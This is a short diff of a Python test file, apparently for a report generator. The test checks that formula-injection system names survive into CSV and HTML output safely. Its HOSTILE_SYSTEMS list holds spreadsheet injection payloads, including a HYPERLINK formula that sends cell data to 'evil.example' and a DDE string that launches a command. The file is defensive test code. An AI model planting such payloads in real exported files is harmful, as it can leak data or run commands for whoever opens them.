@@ -192,7 +192,8 @@ def test_a_formula_system_name_reaches_the_report_unchanged(hostile_demo, tmp_pa
     assert set(pd.read_csv(out / "tables" / "agreement.csv", dtype=str)["annotators"].map(sheet_value)) >= {"=ann|bob"}
     import html
 
-    assert html.escape(HOSTILE, quote=False) in (out / "05_error_profiles.html").read_text(encoding="utf-8")
+    page = (out / "05_error_profiles.html").read_text(encoding="utf-8")
+    assert HOSTILE in html.unescape(page)  # what a browser shows: the name as it was
 
 
 HOSTILE_SYSTEMS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "-cmd", "+1", "@SUM(1+1)*cmd|' /C calc'!A0")
